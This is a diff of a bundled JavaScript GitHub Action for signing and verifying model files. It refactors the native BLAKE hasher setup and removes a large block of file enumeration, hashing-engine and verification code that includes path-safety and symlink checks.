@@ -5388,13 +5388,13 @@ function loadNative() {
 async function prepareAlgorithm(alg) {
   if (factories[alg]) return;
   const nat = loadNative();
+  const nativeFactory = (C2) => () => {
+    const h = new C2();
+    return { update: (d) => void h.update(d), digestHex: () => h.digest("hex") };
+  };
   if (alg === "blake3") {
     if (nat) {
-      const C2 = nat.Blake3Hasher;
-      factories.blake3 = () => {
-        const h = new C2();
-        return { update: (d) => void h.update(d), digestHex: () => h.digest("hex") };
-      };
+      factories.blake3 = nativeFactory(nat.Blake3Hasher);
       implementations.blake3 = "@napi-rs/blake-hash (native)";
     } else {
       const mod = await Promise.resolve().then(() => (init_blake3(), blake3_exports));
@@ -5406,11 +5406,7 @@ async function prepareAlgorithm(alg) {
     }
   } else if (alg === "blake2b") {
     if (nat) {
-      const C2 = nat.Blake2BHasher;
-      factories.blake2b = () => {
-        const h = new C2();
-        return { update: (d) => void h.update(d), digestHex: () => h.digest("hex") };
-      };
+      factories.blake2b = nativeFactory(nat.Blake2BHasher);
       implementations.blake2b = "@napi-rs/blake-hash (native)";
     } else {
       factories.blake2b = () => nodeHasher("blake2b512");
@@ -17416,5622 +17412,16 @@ var init_licenses = __esm({
   }
 });
 
-// src/hashing/paths.ts
-function compareCodePoints(a, b2) {
-  const n = a.length < b2.length ? a.length : b2.length;
-  for (let i = 0; i < n; i++) {
-    const x = a.charCodeAt(i);
-    const y = b2.charCodeAt(i);
-    if (x === y) continue;
-    if ((x & 63488) !== 55296 && (y & 63488) !== 55296) return x < y ? -1 : 1;
-    const from = i > 0 && (a.charCodeAt(i - 1) & 64512) === 55296 ? i - 1 : i;
-    return compareFrom(a, b2, from);
-  }
-  return a.length === b2.length ? 0 : a.length < b2.length ? -1 : 1;
-}
-function compareFrom(a, b2, i) {
-  let j2 = i;
-  let k2 = i;
-  for (; ; ) {
-    if (j2 >= a.length || k2 >= b2.length) return j2 >= a.length && k2 >= b2.length ? 0 : j2 >= a.length ? -1 : 1;
-    const x = a.codePointAt(j2);
-    const y = b2.codePointAt(k2);
-    if (x !== y) return x < y ? -1 : 1;
-    j2 += x > 65535 ? 2 : 1;
-    k2 += y > 65535 ? 2 : 1;
-  }
-}
-function unsafeNameReason(name2) {
-  if (name2.length === 0) return "empty name";
-  if (name2.length > 4096) return "name longer than 4096 characters";
-  if (name2.startsWith("/")) return "absolute path";
-  if (/^[A-Za-z]:/.test(name2)) return "drive-letter path";
-  if (name2.includes("\\")) return "backslash in name";
-  if (/[\u0000-\u001f\u007f]/.test(name2)) return "control character in name";
-  for (const seg of name2.split("/")) {
-    if (seg === "") return "empty path segment";
-    if (seg === "..") return '".." segment';
-    if (seg === ".") return '"." segment';
-    if (/^[. ]+$/.test(seg)) return "segment of only dots and spaces";
-  }
-  return void 0;
-}
-function normaliseIgnorePath(p2) {
-  let s3 = p2.replace(/\\/g, "/");
-  while (s3.startsWith("./")) s3 = s3.slice(2);
-  while (s3.length > 1 && s3.endsWith("/")) s3 = s3.slice(0, -1);
-  return s3;
-}
-function isIgnored(name2, ignorePaths) {
-  for (const p2 of ignorePaths) {
-    if (p2 === "" || p2 === ".") continue;
-    if (name2 === p2 || name2.startsWith(p2 + "/")) return true;
-  }
-  return false;
-}
-var DEFAULT_IGNORES;
-var init_paths = __esm({
-  "src/hashing/paths.ts"() {
-    "use strict";
-    DEFAULT_IGNORES = [".git", ".github", ".gitattributes", ".gitignore"];
-  }
-});
-
-// src/hashing/enumerate.ts
-import { lstatSync, readdirSync, realpathSync, statSync } from "node:fs";
-import { lstat, realpath } from "node:fs/promises";
-import path from "node:path";
-function within(rootReal, target) {
-  return target === rootReal || target.startsWith(rootReal.endsWith(path.sep) ? rootReal : rootReal + path.sep);
-}
-function kindOf(st2) {
-  if (st2.isFIFO()) return "FIFO";
-  if (st2.isSocket()) return "socket";
-  if (st2.isCharacterDevice()) return "character device";
-  if (st2.isBlockDevice()) return "block device";
-  return "special file";
-}
-async function enumerateModel(model, opts) {
-  const root = path.resolve(model);
-  let st2;
-  try {
-    st2 = await lstat(root);
-  } catch (e) {
-    const c = errnoCode(e);
-    throw usage("MODEL_NOT_FOUND", c === "ENOENT" ? `model not found: ${model}` : `cannot read model ${model}: ${c ?? String(e)}`);
-  }
-  const problems = [];
-  if (st2.isSymbolicLink()) {
-    const real = await realpath(root);
-    return enumerateModel(real, opts);
-  }
-  if (st2.isFile()) {
-    return { root, isFile: true, files: [{ name: path.basename(root), abs: root, size: st2.size, viaLink: false, id: { dev: st2.dev, ino: st2.ino } }], problems };
-  }
-  if (!st2.isDirectory()) {
-    throw usage("SPECIAL_FILE", `model is a ${kindOf(st2)}, not a file or directory: ${model}`);
-  }
-  const rootReal = await realpath(root);
-  const maxFiles = opts.maxFiles ?? DEFAULT_MAX_FILES;
-  const maxDepth = opts.maxDepth ?? DEFAULT_MAX_DEPTH;
-  const files = [];
-  const visitedDirs = /* @__PURE__ */ new Set();
-  const replaced = (rel) => {
-    problems.push({ code: "FILE_REPLACED", path: rel === "" ? "." : rel, message: "directory was replaced while the model was being listed" });
-  };
-  const walk = (absDir, rel, depth, viaLink, expect) => {
-    if (depth > maxDepth) {
-      problems.push({ code: "TOO_DEEP", path: rel, message: `directory nesting deeper than ${maxDepth}` });
-      return;
-    }
-    const dst = lstatSync(absDir);
-    if (!dst.isDirectory() || expect && (dst.dev !== expect.dev || dst.ino !== expect.ino)) return replaced(rel);
-    const key = `${dst.dev}:${dst.ino}`;
-    if (visitedDirs.has(key)) {
-      problems.push({ code: "SYMLINK_LOOP", path: rel, message: "directory reached twice through symlinks" });
-      return;
-    }
-    visitedDirs.add(key);
-    const entries = readdirSync(absDir, { withFileTypes: true });
-    const again = lstatSync(absDir);
-    if (!again.isDirectory() || again.dev !== dst.dev || again.ino !== dst.ino) return replaced(rel);
-    const prefix = absDir.endsWith(path.sep) ? absDir : absDir + path.sep;
-    for (const ent of entries) {
-      const name2 = rel === "" ? ent.name : `${rel}/${ent.name}`;
-      if (isIgnored(name2, opts.ignorePaths)) continue;
-      const abs = prefix + ent.name;
-      const est = lstatSync(abs, { throwIfNoEntry: false });
-      if (!est) continue;
-      if (est.isSymbolicLink()) {
-        let target;
-        try {
-          target = realpathSync(abs);
-        } catch {
-          problems.push({ code: "SYMLINK_BROKEN", path: name2, message: "symlink target does not exist" });
-          continue;
-        }
-        if (!within(rootReal, target)) {
-          problems.push({ code: "SYMLINK_OUTSIDE", path: name2, message: "symlink points outside the model" });
-          continue;
-        }
-        if (!opts.allowSymlinks) {
-          problems.push({ code: "SYMLINK_REFUSED", path: name2, message: "symlinks are not allowed (use --allow-symlinks for links inside the model)" });
-          continue;
-        }
-        const tst = statSync(target);
-        if (tst.isDirectory()) walk(target, name2, depth + 1, true, { dev: tst.dev, ino: tst.ino });
-        else if (tst.isFile()) files.push({ name: name2, abs: target, size: tst.size, viaLink: true, id: { dev: tst.dev, ino: tst.ino } });
-        else problems.push({ code: "SPECIAL_FILE", path: name2, message: `symlink to a ${kindOf(tst)}` });
-      } else if (est.isDirectory()) {
-        walk(abs, name2, depth + 1, viaLink, { dev: est.dev, ino: est.ino });
-      } else if (est.isFile()) {
-        files.push({ name: name2, abs, size: est.size, viaLink, id: { dev: est.dev, ino: est.ino } });
-      } else {
-        problems.push({ code: "SPECIAL_FILE", path: name2, message: `${kindOf(est)} is not a regular file` });
-      }
-      if (files.length > maxFiles) {
-        throw usage("TOO_MANY_FILES", `model has more than ${maxFiles} files`);
-      }
-    }
-  };
-  walk(root, "", 0, false);
-  files.sort((a, b2) => compareCodePoints(a.name, b2.name));
-  return { root, isFile: false, files, problems };
-}
-var DEFAULT_MAX_FILES, DEFAULT_MAX_DEPTH;
-var init_enumerate = __esm({
-  "src/hashing/enumerate.ts"() {
-    "use strict";
-    init_errors();
-    init_paths();
-    DEFAULT_MAX_FILES = 1e6;
-    DEFAULT_MAX_DEPTH = 128;
-  }
-});
-
-// src/hashing/read.ts
-import { closeSync as closeSync2, constants as constants2, fstatSync, openSync as openSync2, readSync as readSync2 } from "node:fs";
-function hashRange(task, alg, buf, progress) {
-  const onRead = typeof progress === "function" ? progress : progress ? (n) => void Atomics.add(progress.counters, progress.slot, BigInt(n)) : void 0;
-  let fd;
-  try {
-    fd = openSync2(task.abs, constants2.O_RDONLY | O_NONBLOCK | (task.followLink ? 0 : O_NOFOLLOW));
-  } catch (e) {
-    const code = e.code;
-    if (code === "ELOOP") return { ok: false, code: "FILE_IS_SYMLINK", message: MSG.symlink };
-    if (code === "ENOENT") return { ok: false, code: "FILE_MISSING", message: MSG.missing };
-    return { ok: false, code: "FILE_UNREADABLE", message: `cannot open: ${code ?? String(e)}` };
-  }
-  try {
-    const before = fstatSync(fd);
-    if (!before.isFile()) return { ok: false, code: "SPECIAL_FILE", message: MSG.special };
-    if (task.expectId && (before.ino !== task.expectId.ino || before.dev !== task.expectId.dev)) {
-      return { ok: false, code: "FILE_REPLACED", message: MSG.replaced };
-    }
-    if (before.size !== task.expectSize) {
-      return { ok: false, code: "FILE_CHANGED_DURING_HASH", message: MSG.sizeMoved };
-    }
-    const digest = readAndHash(fd, task, alg, buf, onRead);
-    if (digest === null) return { ok: false, code: "FILE_CHANGED_DURING_HASH", message: MSG.shrank };
-    const after = fstatSync(fd);
-    if (after.size !== before.size || after.mtimeMs !== before.mtimeMs || after.ctimeMs !== before.ctimeMs) {
-      return { ok: false, code: "FILE_CHANGED_DURING_HASH", message: MSG.changed };
-    }
-    return { ok: true, digest };
-  } catch (e) {
-    const code = e.code;
-    return { ok: false, code: "FILE_UNREADABLE", message: `cannot read: ${code ?? String(e.message ?? e)}` };
-  } finally {
-    closeSync2(fd);
-  }
-}
-function readAndHash(fd, task, alg, buf, onRead) {
-  const h = createHasher2(alg);
-  const size = buf.length;
-  let pos = task.start;
-  while (pos < task.end) {
-    const want = task.end - pos < size ? task.end - pos : size;
-    const n = readSync2(fd, buf, 0, want, pos);
-    if (n === 0) return null;
-    h.update(n === size ? buf : buf.subarray(0, n));
-    pos += n;
-    onRead?.(n);
-  }
-  return h.digestHex();
-}
-var MSG, READ_SIZE, O_NOFOLLOW, O_NONBLOCK;
-var init_read = __esm({
-  "src/hashing/read.ts"() {
-    "use strict";
-    init_algorithms2();
-    MSG = {
-      symlink: "file was replaced by a symlink",
-      missing: "file disappeared while verifying",
-      special: "not a regular file",
-      replaced: "a different file was found at this path than the one listed (replaced while verifying)",
-      sizeMoved: "file size changed while it was being read",
-      shrank: "file shrank while it was being read",
-      changed: "file changed while it was being read"
-    };
-    READ_SIZE = 128 * 1024;
-    O_NOFOLLOW = constants2.O_NOFOLLOW ?? 0;
-    O_NONBLOCK = constants2.O_NONBLOCK ?? 0;
-  }
-});
-
-// src/hashing/native.ts
-import { existsSync } from "node:fs";
-import { createRequire as createRequire4 } from "node:module";
-import os from "node:os";
-import { fileURLToPath } from "node:url";
-function loadNative2() {
-  if (addon !== void 0) return addon;
-  if (process.env.MODELSIGN_NO_MMAP === "1") {
-    why = "disabled by MODELSIGN_NO_MMAP=1";
-    return addon = null;
-  }
-  if (true) {
-    why = "not part of the bundled GitHub Action";
-    return addon = null;
-  }
-  if (!existsSync(ADDON_PATH)) {
-    why = "not built (`npm run build:native` needs a C compiler)";
-    return addon = null;
-  }
-  try {
-    const mod = createRequire4(import.meta.url)(ADDON_PATH);
-    if (typeof mod.hashFiles !== "function") throw new Error("no hashFiles export");
-    return addon = mod;
-  } catch (e) {
-    why = `failed to load: ${String(e.message ?? e).split("\n")[0]}`;
-    return addon = null;
-  }
-}
-function nativeLikely() {
-  if (addon !== void 0) return addon !== null;
-  if (true) return false;
-  return process.env.MODELSIGN_NO_MMAP !== "1" && existsSync(ADDON_PATH);
-}
-function outcome(status, errno, digest) {
-  switch (status) {
-    case 0:
-      return { ok: true, digest: digest.toString("hex") };
-    case 1:
-      return { ok: false, code: "FILE_IS_SYMLINK", message: MSG.symlink };
-    case 2:
-      return { ok: false, code: "FILE_MISSING", message: MSG.missing };
-    case 3:
-      return { ok: false, code: "FILE_UNREADABLE", message: `cannot open: ${errName(errno)}` };
-    case 4:
-      return { ok: false, code: "SPECIAL_FILE", message: MSG.special };
-    case 5:
-      return { ok: false, code: "FILE_REPLACED", message: MSG.replaced };
-    case 6:
-      return { ok: false, code: "FILE_CHANGED_DURING_HASH", message: MSG.sizeMoved };
-    case 7:
-      return { ok: false, code: "FILE_CHANGED_DURING_HASH", message: MSG.shrank };
-    case 8:
-      return { ok: false, code: "FILE_CHANGED_DURING_HASH", message: MSG.changed };
-    case 9:
-      return { ok: false, code: "FILE_UNREADABLE", message: `cannot read: ${errName(errno)}` };
-    default:
-      return { ok: false, code: "FILE_UNREADABLE", message: "cannot hash: SHA-256 failed (out of memory?)" };
-  }
-}
-async function hashNative(nat, all, o) {
-  const bad5 = all.map(outOfRange);
-  const tasks = bad5.some(Boolean) ? all.filter((_2, i) => !bad5[i]) : all;
-  const n = tasks.length;
-  const start = new Float64Array(n);
-  const end = new Float64Array(n);
-  const size = new Float64Array(n);
-  const dev = new Float64Array(n);
-  const ino = new Float64Array(n).fill(NaN);
-  const flags = new Uint8Array(n);
-  const paths = new Array(n);
-  for (let i = 0; i < n; i++) {
-    const t = tasks[i];
-    paths[i] = t.abs;
-    start[i] = t.start;
-    end[i] = t.end;
-    size[i] = t.expectSize;
-    if (t.expectId) {
-      dev[i] = t.expectId.dev;
-      ino[i] = t.expectId.ino;
-    }
-    flags[i] = (t.followLink ? 1 : 0) | (o.noWindowCheck ? 2 : 0);
-  }
-  const r = n === 0 ? { status: Buffer.alloc(0), errno: Buffer.alloc(0), digests: Buffer.alloc(0) } : await nat.hashFiles(paths, start, end, size, dev, ino, flags, o.threads, o.counters ?? null, o.slot ?? 0, o.hook ?? null, MODE[o.kernel ?? "auto"]);
-  const out2 = new Array(n);
-  for (let i = 0; i < n; i++) out2[i] = outcome(r.status.readInt32LE(4 * i), r.errno.readInt32LE(4 * i), r.digests.subarray(32 * i, 32 * i + 32));
-  if (tasks === all) return out2;
-  let j2 = 0;
-  return all.map((_2, i) => bad5[i] ? { ok: false, code: "FILE_CHANGED_DURING_HASH", message: MSG.shrank } : out2[j2++]);
-}
-var ADDON_PATH, addon, why, ERRNO_NAMES, errName, MODE, outOfRange;
-var init_native = __esm({
-  "src/hashing/native.ts"() {
-    "use strict";
-    init_read();
-    ADDON_PATH = fileURLToPath(new URL("../../native/build/Release/modelsign_native.node", import.meta.url));
-    why = "";
-    ERRNO_NAMES = new Map(Object.entries(os.constants.errno).map(([k2, v2]) => [v2, k2]));
-    errName = (n) => ERRNO_NAMES.get(n) ?? `errno ${n}`;
-    MODE = { auto: 0, openssl: 1, x1: 2 };
-    outOfRange = (t) => !(Number.isSafeInteger(t.start) && Number.isSafeInteger(t.end) && Number.isSafeInteger(t.expectSize) && 0 <= t.start && t.start <= t.end && t.end <= t.expectSize);
-  }
-});
-
-// src/hashing/engine.ts
-var engine_exports = {};
-__export(engine_exports, {
-  PROGRESS_TICK_MS: () => PROGRESS_TICK_MS,
-  defaultJobs: () => defaultJobs,
-  hashTasks: () => hashTasks,
-  lastEngineRun: () => lastEngineRun,
-  prewarmHashPool: () => prewarmHashPool,
-  shutdownHashPool: () => shutdownHashPool
-});
-import os2 from "node:os";
-import { existsSync as existsSync2 } from "node:fs";
-import { fileURLToPath as fileURLToPath2 } from "node:url";
-import { Worker } from "node:worker_threads";
-function workerUrl() {
-  const here = new URL("./worker.js", import.meta.url);
-  if (existsSync2(fileURLToPath2(here))) return here;
-  return new URL("../../dist/hashing/worker.js", import.meta.url);
-}
-function defaultJobs() {
-  return Math.max(1, typeof os2.availableParallelism === "function" ? os2.availableParallelism() : os2.cpus().length);
-}
-function resolveJobs(jobs) {
-  return Math.max(1, Math.min(jobs ?? defaultJobs(), MAX_JOBS));
-}
-function lastEngineRun() {
-  return lastRun;
-}
-function prewarmHashPool(opts = {}) {
-  if ((opts.alg ?? "sha256") === "sha256" && opts.readSize === void 0 && nativeLikely() && loadNative2()) return;
-  const size = resolveJobs(opts.jobs);
-  const readSize = opts.readSize ?? READ_SIZE;
-  if (shared && !shared.broken && shared.size === size && shared.readSize === readSize) return;
-  if (shared && !shared.inUse) void shared.terminate();
-  shared = new Pool(size, readSize);
-}
-async function shutdownHashPool() {
-  const p2 = shared;
-  shared = void 0;
-  if (p2) await p2.terminate();
-}
-function acquirePool(jobs, need, readSize) {
-  const fits = (p2) => !p2.broken && p2.readSize === readSize && p2.size <= jobs && p2.size >= Math.min(jobs, need);
-  if (shared && !shared.inUse && fits(shared)) return { pool: shared, temporary: false };
-  if (shared && shared.inUse) return { pool: new Pool(Math.min(jobs, need), readSize), temporary: true };
-  if (shared) void shared.terminate();
-  shared = new Pool(Math.min(jobs, need), readSize);
-  return { pool: shared, temporary: false };
-}
-function hashInline(tasks, alg, total, readSize, opts) {
-  const buf = Buffer.allocUnsafe(Math.max(4096, Math.min(readSize, total)));
-  let done = 0;
-  opts.onProgress?.(0, total);
-  const onRead = opts.onProgress ? (n) => opts.onProgress(done += n, total) : void 0;
-  return tasks.map((t) => hashRange(t, alg, buf, onRead));
-}
-async function runNative(nat, tasks, sizes, total, jobs, opts) {
-  const order = sizes.map((_2, i) => i).sort((a, b2) => sizes[b2] - sizes[a] || a - b2);
-  const small = total <= INLINE_BYTES && tasks.length <= INLINE_TASKS;
-  const threads = small ? 1 : Math.min(jobs, tasks.length);
-  const counters = new BigInt64Array(new SharedArrayBuffer(8));
-  const report2 = () => opts.onProgress?.(Math.min(total, Number(Atomics.load(counters, 0))), total);
-  report2();
-  const timer = opts.onProgress ? setInterval(report2, PROGRESS_TICK_MS) : void 0;
-  try {
-    const sorted = await hashNative(nat, order.map((i) => tasks[i]), { threads, counters, slot: 0 });
-    report2();
-    const results = new Array(tasks.length);
-    order.forEach((idx, j2) => results[idx] = sorted[j2]);
-    lastRun = { mode: "native", threadsUsed: threads };
-    return results;
-  } finally {
-    if (timer) clearInterval(timer);
-  }
-}
-async function hashTasks(tasks, alg, opts = {}) {
-  try {
-    return await runTasks(tasks, alg, opts);
-  } finally {
-    opts.onDone?.();
-  }
-}
-async function runTasks(tasks, alg, opts) {
-  const results = new Array(tasks.length);
-  if (tasks.length === 0) return results;
-  const sizes = tasks.map((t) => Math.max(0, t.end - t.start));
-  const total = sizes.reduce((s3, n) => s3 + n, 0);
-  const jobs = resolveJobs(opts.jobs);
-  const readSize = opts.readSize ?? READ_SIZE;
-  await prepareAlgorithm(alg);
-  const nat = alg === "sha256" && opts.mmap !== false ? loadNative2() : null;
-  if (nat) return runNative(nat, tasks, sizes, total, jobs, opts);
-  if (total <= INLINE_BYTES && tasks.length <= INLINE_TASKS) {
-    lastRun = { mode: "inline", threadsUsed: 0 };
-    return hashInline(tasks, alg, total, readSize, opts);
-  }
-  const order = sizes.map((_2, i) => i).sort((a, b2) => sizes[b2] - sizes[a] || a - b2);
-  const { pool, temporary } = acquirePool(jobs, tasks.length, readSize);
-  const nWorkers = pool.size;
-  let next = 0;
-  let remaining = total;
-  const takeBatch = () => {
-    const target = Math.min(BATCH_MAX_BYTES, Math.max(BATCH_MIN_BYTES, remaining / (4 * nWorkers)));
-    const maxTasks = Math.min(BATCH_MAX_TASKS, Math.max(1, Math.ceil((order.length - next) / (2 * nWorkers))));
-    const idx = [];
-    let bytes = 0;
-    while (next < order.length && idx.length < maxTasks) {
-      const i = order[next];
-      if (idx.length > 0 && bytes + sizes[i] > target) break;
-      idx.push(i);
-      bytes += sizes[i];
-      next++;
-    }
-    remaining -= bytes;
-    return { idx, bytes };
-  };
-  const used = /* @__PURE__ */ new Set();
-  pool.inUse = true;
-  pool.hold(true);
-  const base2 = pool.bytesRead();
-  let timer;
-  const report2 = () => opts.onProgress?.(Math.min(total, pool.bytesRead() - base2), total);
-  report2();
-  if (opts.onProgress) timer = setInterval(report2, PROGRESS_TICK_MS);
-  const cleanups = [];
-  try {
-    await new Promise((resolve, rejectP) => {
-      let completed = 0;
-      let reqId = 0;
-      const inflight = /* @__PURE__ */ new Map();
-      const pending = /* @__PURE__ */ new Map();
-      const small = /* @__PURE__ */ new Map();
-      const sendOne = (w2) => {
-        const batch = takeBatch();
-        if (batch.idx.length === 0) return false;
-        const id2 = reqId++;
-        inflight.set(id2, batch.idx);
-        pending.set(w2, (pending.get(w2) ?? 0) + 1);
-        small.set(w2, batch.bytes < PIPELINE_BYTES);
-        const req = { id: id2, alg, tasks: batch.idx.map((i) => tasks[i]) };
-        w2.postMessage(req);
-        used.add(w2);
-        return true;
-      };
-      const topUp = (w2) => {
-        const n = pending.get(w2) ?? 0;
-        if (n === 0) sendOne(w2);
-        if ((pending.get(w2) ?? 0) === 1 && small.get(w2)) sendOne(w2);
-      };
-      const active = pool.workers.slice(0, Math.min(nWorkers, tasks.length));
-      for (const w2 of active) {
-        const onMessage = (res) => {
-          const batch = inflight.get(res.id);
-          if (!batch) return;
-          inflight.delete(res.id);
-          pending.set(w2, pending.get(w2) - 1);
-          batch.forEach((idx, j2) => results[idx] = res.results[j2]);
-          completed += batch.length;
-          report2();
-          if (completed === tasks.length) resolve();
-          else topUp(w2);
-        };
-        const onError = (e) => rejectP(e);
-        const onExit = (code) => rejectP(new Error(`hash worker exited with code ${code}`));
-        w2.on("message", onMessage);
-        w2.on("error", onError);
-        w2.on("exit", onExit);
-        cleanups.push(() => {
-          w2.off("message", onMessage);
-          w2.off("error", onError);
-          w2.off("exit", onExit);
-        });
-      }
-      for (const w2 of active) sendOne(w2);
-      for (const w2 of active) topUp(w2);
-    });
-  } catch (e) {
-    await pool.terminate();
-    if (shared === pool) shared = void 0;
-    throw e;
-  } finally {
-    if (timer) clearInterval(timer);
-    for (const c of cleanups) c();
-    pool.inUse = false;
-    pool.hold(false);
-    if (temporary) await pool.terminate();
-  }
-  lastRun = { mode: "pool", threadsUsed: used.size };
-  return results;
-}
-var MAX_JOBS, INLINE_BYTES, INLINE_TASKS, BATCH_MAX_BYTES, BATCH_MIN_BYTES, BATCH_MAX_TASKS, PIPELINE_BYTES, PROGRESS_TICK_MS, Pool, shared, lastRun;
-var init_engine = __esm({
-  "src/hashing/engine.ts"() {
-    "use strict";
-    init_algorithms2();
-    init_read();
-    init_native();
-    MAX_JOBS = 64;
-    INLINE_BYTES = 8 * 1024 * 1024;
-    INLINE_TASKS = 128;
-    BATCH_MAX_BYTES = 64 * 1024 * 1024;
-    BATCH_MIN_BYTES = 1024 * 1024;
-    BATCH_MAX_TASKS = 256;
-    PIPELINE_BYTES = 8 * 1024 * 1024;
-    PROGRESS_TICK_MS = 100;
-    Pool = class {
-      constructor(size, readSize) {
-        this.size = size;
-        this.readSize = readSize;
-        const sab = new SharedArrayBuffer(8 * size);
-        this.counters = new BigInt64Array(sab);
-        const url = workerUrl();
-        for (let slot = 0; slot < size; slot++) {
-          const init = { progress: sab, slot, readSize };
-          const w2 = new Worker(url, { workerData: init });
-          w2.on("error", () => this.broken = true);
-          w2.on("exit", () => this.broken = true);
-          w2.unref();
-          this.workers.push(w2);
-        }
-      }
-      workers = [];
-      counters;
-      inUse = false;
-      broken = false;
-      /** Bytes read by all workers since the pool started (monotonic). */
-      bytesRead() {
-        let s3 = 0n;
-        for (let i = 0; i < this.size; i++) s3 += Atomics.load(this.counters, i);
-        return Number(s3);
-      }
-      hold(on) {
-        for (const w2 of this.workers) {
-          if (on) w2.ref();
-          else w2.unref();
-        }
-      }
-      async terminate() {
-        this.broken = true;
-        await Promise.all(this.workers.map((w2) => w2.terminate()));
-      }
-    };
-  }
-});
-
-// src/hashing/source.ts
-function rangeKey(name2, start, end) {
-  return `${name2}\0${start}\0${end}`;
-}
-function plannedRanges(method, shardSize, size) {
-  if (method === "files" || !shardSize) return [[0, size]];
-  if (size === 0) return [[0, 0]];
-  const out2 = [];
-  for (let s3 = 0; s3 < size; s3 += shardSize) out2.push([s3, Math.min(size, s3 + shardSize)]);
-  return out2;
-}
-function lookupRange(hashed, name2, start, end) {
-  return hashed.get(rangeKey(name2, start, end)) ?? { ok: false, code: "FILE_CHANGED", message: `byte range ${start}:${end} does not exist in the archive entry` };
-}
-var init_source = __esm({
-  "src/hashing/source.ts"() {
-    "use strict";
-  }
-});
-
-// src/verify/files.ts
-import { lstat as lstat2, realpath as realpath2 } from "node:fs/promises";
-import path2 from "node:path";
-function parseShardName(name2) {
-  const m2 = /^(.*):(\d{1,16}):(\d{1,16})$/s.exec(name2);
-  if (!m2) return void 0;
-  const start = Number(m2[2]);
-  const end = Number(m2[3]);
-  if (!Number.isSafeInteger(start) || !Number.isSafeInteger(end) || end < start) return void 0;
-  return { path: m2[1], start, end };
-}
-async function statInside(root, name2, allowSymlinks) {
-  const missing = { code: "FILE_MISSING", path: name2, message: "signed file is missing" };
-  const segs = name2.split("/");
-  let cur = root;
-  let viaLink = false;
-  for (let i = 0; i < segs.length; i++) {
-    cur = path2.join(cur, segs[i]);
-    let st3;
-    try {
-      st3 = await lstat2(cur);
-    } catch {
-      return missing;
-    }
-    if (st3.isSymbolicLink()) {
-      if (!allowSymlinks) return { code: "SYMLINK_REFUSED", path: name2, message: "signed path goes through a symlink" };
-      viaLink = true;
-    }
-  }
-  let abs = cur;
-  if (viaLink) {
-    try {
-      abs = await realpath2(cur);
-    } catch {
-      return { code: "SYMLINK_BROKEN", path: name2, message: "symlink target does not exist" };
-    }
-    const rootReal = await realpath2(root);
-    if (!abs.startsWith(rootReal.endsWith(path2.sep) ? rootReal : rootReal + path2.sep)) {
-      return { code: "SYMLINK_OUTSIDE", path: name2, message: "signed path goes through a symlink out of the model" };
-    }
-  }
-  let st2;
-  try {
-    st2 = await lstat2(abs);
-  } catch {
-    return missing;
-  }
-  if (!st2.isFile()) return { code: "SPECIAL_FILE", path: name2, message: "signed path is not a regular file" };
-  return { name: name2, abs, size: st2.size, viaLink: false, id: { dev: st2.dev, ino: st2.ino } };
-}
-function effectiveIgnores(model, signaturePath, signed, user) {
-  const out2 = new Set([...DEFAULT_IGNORES, ...signed ?? [], ...user].map(normaliseIgnorePath));
-  const rel = path2.relative(path2.resolve(model), path2.resolve(signaturePath));
-  if (rel && !rel.startsWith("..") && !path2.isAbsolute(rel)) out2.add(rel.split(path2.sep).join("/"));
-  return [...out2].filter((p2) => p2 !== "" && p2 !== ".");
-}
-function specialModelIsRejection(e) {
-  if (e instanceof ModelsignError && e.code === "SPECIAL_FILE") throw reject("SPECIAL_FILE", e.message);
-  throw e;
-}
-async function checkFiles(input) {
-  const { serialization: ser } = input;
-  const failures = [];
-  const ignores = effectiveIgnores(input.model, input.signaturePath, ser.ignore_paths, input.ignorePaths);
-  const pre = input.listing || !input.source ? void 0 : await input.source(sourceRequest(input, ignores));
-  const listing = input.listing ?? pre?.listing ?? await enumerateModel(input.model, { ignorePaths: ignores, allowSymlinks: ser.allow_symlinks }).catch(specialModelIsRejection);
-  const onDisk = new Map(listing.files.map((f2) => [f2.name, f2]));
-  const byFile = /* @__PURE__ */ new Map();
-  for (const r of input.resources) {
-    let p2;
-    let start = 0;
-    let end = -1;
-    if (ser.method === "shards") {
-      const s3 = parseShardName(r.name);
-      if (!s3) {
-        failures.push({ code: "UNSAFE_NAME", path: r.name, message: 'shard resource name is not "path:start:end"' });
-        continue;
-      }
-      ({ path: p2, start, end } = s3);
-    } else {
-      p2 = r.name;
-    }
-    if (listing.isFile) {
-      const only = listing.files[0];
-      if (p2 === "." || p2 === only.name) p2 = only.name;
-    } else if (p2 !== "." || ser.method !== "files") {
-      const why2 = unsafeNameReason(p2);
-      if (why2) {
-        failures.push({ code: "UNSAFE_NAME", path: p2, message: `unsafe resource name in signature: ${why2}` });
-        continue;
-      }
-    }
-    const list2 = byFile.get(p2) ?? [];
-    list2.push({ resource: r, start, end });
-    byFile.set(p2, list2);
-  }
-  for (const p2 of listing.problems) {
-    if (input.ignoreUnsignedFiles && p2.path !== void 0 && !byFile.has(p2.path)) continue;
-    failures.push(p2);
-  }
-  const tasks = [];
-  const taskRanges = [];
-  for (const [name2, ranges] of byFile) {
-    let f2 = onDisk.get(name2);
-    if (!f2) {
-      if (listing.isFile || !isIgnored(name2, ignores)) {
-        if (!listing.problems.some((x) => x.path === name2)) failures.push({ code: "FILE_MISSING", path: name2, message: "signed file is missing" });
-        continue;
-      }
-      const found = await statInside(listing.root, name2, ser.allow_symlinks);
-      if ("code" in found) {
-        failures.push(found);
-        continue;
-      }
-      f2 = found;
-    }
-    if (ser.method === "files") {
-      if (ranges.length !== 1) continue;
-      ranges[0].end = f2.size;
-    } else {
-      ranges.sort((a, b2) => a.start - b2.start);
-      let pos = 0;
-      let ok = true;
-      for (const r of ranges) {
-        if (r.start !== pos) ok = false;
-        pos = r.end;
-      }
-      if (!ok || pos !== f2.size) {
-        failures.push({ code: "FILE_CHANGED", path: name2, message: `file size ${f2.size} does not match the signed shards` });
-        continue;
-      }
-    }
-    for (const r of ranges) {
-      tasks.push({ abs: f2.abs, start: r.start, end: r.end, expectSize: f2.size, followLink: f2.viaLink, ...f2.id ? { expectId: f2.id } : {} });
-      taskRanges.push({ file: name2, range: r });
-    }
-  }
-  if (!input.ignoreUnsignedFiles) {
-    for (const f2 of listing.files) {
-      if (!byFile.has(f2.name)) failures.push({ code: "FILE_UNEXPECTED", path: f2.name, message: "file is not in the signature" });
-    }
-  }
-  const alg = ser.hash_type;
-  await prepareAlgorithm(alg);
-  const outcomes = pre ? taskRanges.map(({ file, range }) => lookupRange(pre.hashed, file, range.start, range.end)) : await hashTasks(tasks, alg, input.engine);
-  const changed = /* @__PURE__ */ new Set();
-  let bytesHashed = 0;
-  outcomes.forEach((o, i) => {
-    const { file, range } = taskRanges[i];
-    bytesHashed += range.end - range.start;
-    if (changed.has(file)) return;
